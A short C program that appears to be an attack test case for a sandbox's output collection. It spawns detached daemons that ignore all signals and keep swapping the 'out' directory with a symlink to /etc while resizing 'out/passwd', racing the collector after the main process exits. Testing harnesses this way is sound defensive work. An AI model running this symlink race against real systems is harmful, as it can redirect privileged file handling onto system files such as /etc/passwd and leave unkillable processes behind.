/* F5, F13: a daemon goes on exchanging the directory `out` with a link to /etc, and growing and
 * truncating `out/passwd`, while the main process has exited and the outputs are collected. */
#include "attack.h"
#include <sys/mman.h>

int main(void) {
    mkdir("out", 0777);
    (void)!symlink("/etc", "bait");
    int fd = open("out/passwd", O_RDWR | O_CREAT, 0666);
    (void)!write(fd, "mine", 4);
    int ready[2];
    char byte;
    if (pipe(ready) < 0) {
        return 1;
    }
    for (int i = 0; i < 2; i++) {
        if (fork() > 0) {
            continue;
        }
        setsid();
        for (int number = 1; number < NSIG; number++) {
            signal(number, SIG_IGN);
        }
        for (long turn = 0;; turn++) {
            if (i == 0) {
                renameat2(AT_FDCWD, "out", AT_FDCWD, "bait", RENAME_EXCHANGE);
            } else {
                (void)!ftruncate(fd, turn % 2 ? 1 << 20 : 4);
            }
            if (turn == 100) {
                (void)!write(ready[1], "x", 1);
            }
        }
    }
    (void)!read(ready[0], &byte, 1);
    (void)!read(ready[0], &byte, 1);
    return 0;
}
